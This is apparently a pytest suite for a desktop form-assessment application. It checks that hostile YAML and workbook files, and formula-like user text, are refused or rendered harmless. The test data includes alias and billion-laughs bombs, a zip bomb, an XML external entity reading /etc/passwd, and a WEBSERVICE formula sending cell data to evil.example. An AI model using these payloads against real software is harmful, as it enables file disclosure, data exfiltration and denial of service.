"""Bombs, oddities and injections a red team tried: each is a clear message (or a harmless
result), quickly, with nothing installed or half-written."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
import yaml

from tuoyu_desktop.cli import main
from tuoyu_desktop.forms import FormError, load_form

DATA = Path(__file__).resolve().parent.parent / "data"
MINI = (DATA / "mini_form.yaml").read_text(encoding="utf-8")


def _form(tmp_path: Path, text: str, name: str = "form.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def refused(path: Path, *words: str) -> str:
    with pytest.raises(FormError) as caught:
        load_form(path)
    message = str(caught.value)
    assert str(path) in message or path.name in message
    said = message.replace(str(path), "")  # the test's folder name may hold one of the words
    assert any(word in said for word in words), message
    return message


# -- YAML ------------------------------------------------------------------------------------------
def _alias_bomb() -> str:
    """Under 2 KB, 9 ** 9 values once its aliases are expanded."""
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for level in range(1, 9):
        lines.append(f"{chr(97 + level)}: &{chr(97 + level)} [" + ",".join([f"*{chr(96 + level)}"] * 9) + "]")
    return "\n".join(lines) + "\n"


@pytest.mark.timeout(20)
def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    path = _form(tmp_path, _alias_bomb())
    assert path.stat().st_size < 2048
    refused(path, "别名", "引用", "alias")


@pytest.mark.timeout(20)
def test_an_alias_bomb_beside_a_valid_form_is_refused(tmp_path):
    """Under keys the form ignores, the bomb passed validation and making the snapshot walked
    its 387 million values."""
    assert MINI.endswith("\n")
    with pytest.raises(FormError) as caught:
        load_form(_form(tmp_path, MINI + _alias_bomb()))
    assert any("别名" in problem for problem in caught.value.problems), caught.value.problems


def test_yaml_nested_beyond_pythons_stack_is_refused_with_a_message(tmp_path):
    """libyaml reads 1,000 levels, PyYAML's constructor recursed into a RecursionError at about 300."""
    from tuoyu_desktop.forms import FormLibrary

    path = _form(tmp_path, "x: " + "[" * 400 + "]" * 400 + "\n")
    refused(path, "嵌套")
    assert not FormLibrary([tmp_path]).entries[0].usable  # listed as broken, not a crash


def test_duplicate_keys_are_refused_naming_the_key(tmp_path):
    text = MINI.replace('title: 测试用小表\n', 'title: 测试用小表\ntitle: 另一个标题\n', 1)
    refused(_form(tmp_path, text), "title")


def test_form_ids_that_differ_only_by_an_invisible_character_are_refused(tmp_path):
    refused(_form(tmp_path, MINI.replace("id: mini-test", "id: mini\u200b-test", 1)), "id", "字符")


@pytest.mark.parametrize("what, old, new", [
    ("5,001 digits", "total_points: 30", "total_points: " + "9" * 5001),
    ("an exponent that never ends", "total_points: 30", "total_points: 1e999999999"),
    ("a NUL byte", "title: 测试用小表", "title: \"测试\\0用小表\""),
    ("a 300-character version", 'version: "1.0"', 'version: "' + "1" * 300 + '"'),
])
@pytest.mark.timeout(20)
def test_odd_values_in_a_form_are_messages(tmp_path, what, old, new):
    assert old in MINI
    with pytest.raises(FormError):
        load_form(_form(tmp_path, MINI.replace(old, new, 1)))


@pytest.mark.timeout(60)
def test_a_long_chain_of_rules_evaluates_or_is_refused_never_a_recursion_error(tmp_path):
    """Items whose rules name the next one, 300 deep: the loader refuses it or scoring works."""
    from tuoyu_desktop.facility import FacilityProfile
    from tuoyu_desktop.scoring import score

    document = yaml.safe_load(MINI)
    items = document["dimensions"][0]["indicators"][0]["items"]
    template = {"kind": "computed", "scale": "yesno", "points": 0}
    chain = []
    for n in range(300):
        following = f"c{n + 1}" if n < 299 else items[0]["id"]
        chain.append({**template, "id": f"c{n}", "text": f"链 {n}", "rule": f"answered({following!r})".replace("'", '"')})
    items.extend(chain)
    path = _form(tmp_path, yaml.safe_dump(document, allow_unicode=True))
    try:
        form = load_form(path)
    except FormError:
        return
    score(form, {}, FacilityProfile())


# -- workbooks -------------------------------------------------------------------------------------
def _good_workbook(tmp_path: Path) -> Path:
    from tuoyu_desktop.forms.workbook import export_workbook

    return export_workbook(load_form(DATA / "mini_form.yaml"), tmp_path / "good.xlsx")


def _replace_member(source: Path, target: Path, member_suffix: str, data: bytes) -> Path:
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as changed:
        for info in original.infolist():
            content = data if info.filename.endswith(member_suffix) else original.read(info.filename)
            changed.writestr(info.filename, content)
    return target


@pytest.mark.timeout(60)
@pytest.mark.parametrize("what", ["zip bomb", "external entity", "billion laughs", "cut-off xml", "huge exponent"])
def test_hostile_workbooks_are_form_errors(tmp_path, what):
    from tuoyu_desktop.forms.workbook import compile_workbook

    good = _good_workbook(tmp_path)
    with zipfile.ZipFile(good) as book:
        sheet = next(n for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
        xml = book.read(sheet)
    target = tmp_path / f"{what}.xlsx"
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml  # without its declaration
    if what == "zip bomb":
        bomb = xml.replace(b"</sheetData>", b"<row r=\"9999\">" + b"<c t=\"inlineStr\"><is><t>" + b"A" * 300_000_000
                           + b"</t></is></c></row></sheetData>")
        _replace_member(good, target, sheet, bomb)
        assert target.stat().st_size < 5_000_000
    elif what == "external entity":
        evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + body
        _replace_member(good, target, sheet, evil.replace(b"<sheetData>", b"<sheetData>&e;", 1))
    elif what == "billion laughs":
        entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
        evil = f'<?xml version="1.0"?><!DOCTYPE x [{entities}]>'.encode() + body
        _replace_member(good, target, sheet, evil.replace(b"<sheetData>", b"<sheetData>&l9;", 1))
    elif what == "cut-off xml":
        _replace_member(good, target, sheet, xml[: len(xml) // 2])
    else:
        _replace_member(good, target, sheet, xml.replace(b"<v>30</v>", b"<v>1e400</v>", 1)
                        if b"<v>30</v>" in xml else xml.replace(b"</sheetData>", b'<row r="999"><c r="A999"><v>1e999999999</v></c></row></sheetData>'))
    with pytest.raises(FormError):
        compile_workbook(target)


# -- what the app writes ---------------------------------------------------------------------------
FORMULAS = ["=WEBSERVICE(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A2)", "=HYPERLINK(\"x\")"]


def test_user_text_in_the_ledger_workbook_is_text_never_a_formula(demo_workspace, tmp_path):
    from openpyxl import load_workbook

    workspace, assessment_id = demo_workspace
    items = workspace.rectifications.from_assessment(assessment_id)
    assert len(items) >= len(FORMULAS)
    for item, text in zip(items, FORMULAS, strict=False):
        workspace.rectifications.update(item.id, description=text, opinion=text, responsible=text)
    target = workspace.reports.export_ledger(tmp_path / "台账.xlsx")
    cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row if cell.value is not None]
    texts = {cell.value for cell in cells}
    assert all(formula in texts for formula in FORMULAS)
    assert all(cell.data_type != "f" for cell in cells)


def test_backup_keep_zero_is_a_usage_message(capsys, data_dir):
    code = main(["backup", "--keep", "0"])
    assert code in (1, 2)
    assert "Traceback" not in capsys.readouterr().err


def test_an_identity_file_without_a_passphrase_says_so(tmp_path, capsys):
    from cryptography.hazmat.primitives.serialization import NoEncryption, pkcs12

    from tuoyu_desktop import signing

    made = signing.read_identity(_identity(tmp_path), PASS)
    bare = tmp_path / "bare.p12"
    bare.write_bytes(pkcs12.serialize_key_and_certificates(b"me", made.private_key, made.certificate, None,
                                                           NoEncryption()))
    with pytest.raises(signing.UnprotectedIdentity) as caught:
        signing.read_identity(bare, "any passphrase")
    assert "没有设置口令" in str(caught.value) and "口令不正确" not in str(caught.value)
    # Importing is how it gets one.
    info = signing.import_identity(bare, tmp_path / "protected.p12", PASS)
    assert signing.read_identity(tmp_path / "protected.p12", PASS).certificate_pem()
    assert info.name == "陈静"


PASS = "a-good-passphrase-2026"


def _identity(tmp_path: Path) -> Path:
    from tuoyu_desktop import signing

    path = tmp_path / "made.p12"
    signing.create_identity(path, name="陈静", role="机构负责人", organisation="测试", passphrase=PASS)
    return path


def test_a_form_whose_text_the_report_font_cannot_draw_is_refused_before_install(workspace, tmp_path, capsys):
    path = _form(tmp_path, MINI.replace("title: 测试用小表", "title: 测试用小表 🧸𠀀", 1))
    with pytest.raises(FormError) as caught:
        workspace.forms.install(path)
    assert "title" in str(caught.value) and "U+1F9F8" in str(caught.value)
    assert not (workspace.data_dir / "forms").exists() or not any((workspace.data_dir / "forms").iterdir())
    assert main(["forms", "validate", str(path)]) == 1
    assert "报告字库无法显示" in capsys.readouterr().err
